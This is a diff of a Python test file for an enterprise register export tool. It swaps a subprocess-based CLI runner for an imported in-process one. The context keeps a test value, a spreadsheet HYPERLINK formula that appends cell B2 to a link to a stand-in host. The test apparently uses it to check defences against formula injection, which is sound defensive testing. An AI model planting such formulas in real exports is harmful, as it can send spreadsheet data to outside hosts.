@@ -9,9 +9,6 @@ from __future__ import annotations
 
 import csv
 import json
-import os
-import subprocess
-import sys
 from pathlib import Path
 
 import pytest
@@ -22,6 +19,7 @@ from diagnosis.enterprise import Enterprise
 from diagnosis.register_export import COLUMNS, SHEET_NAME, headers
 from storage.database import Store
 from storage.enterprises import SqliteEnterpriseRepository
+from tests.main_process import run_main
 
 REPO_ROOT = Path(__file__).resolve().parents[1]
 FORMULA = '=HYPERLINK("http://example.invalid/"&B2,"详情")'
@@ -35,18 +33,7 @@ def code(region: str, body: str) -> str:
     return first17 + credit_code.check_character(first17)
 
 
-def run_cli(*args: str) -> subprocess.CompletedProcess[str]:
-    env = {**os.environ, "PYTHONIOENCODING": "utf-8"}
-    return subprocess.run(
-        [sys.executable, "main.py", *args],
-        cwd=REPO_ROOT,
-        env=env,
-        capture_output=True,
-        text=True,
-        encoding="utf-8",
-        timeout=180,
-        check=False,
-    )
+run_cli = run_main
 
 
 def register(db: Path) -> dict[str, Enterprise]:
